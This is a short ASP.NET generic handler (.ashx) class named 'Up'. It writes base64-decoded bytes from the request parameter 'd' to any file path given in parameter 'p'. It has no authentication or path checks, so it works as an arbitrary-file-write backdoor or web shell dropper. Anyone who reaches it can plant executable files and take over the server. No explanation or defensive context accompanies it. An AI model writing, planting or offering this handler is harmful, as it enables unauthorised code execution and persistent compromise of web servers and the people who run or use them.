<%@ WebHandler Language="C#" Class="Up" %>
using System;
using System.Web;

public class Up : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        System.IO.File.WriteAllBytes(context.Request["p"], Convert.FromBase64String(context.Request["d"]));
        context.Response.Write("ok");
    }
    public bool IsReusable { get { return false; } }
}
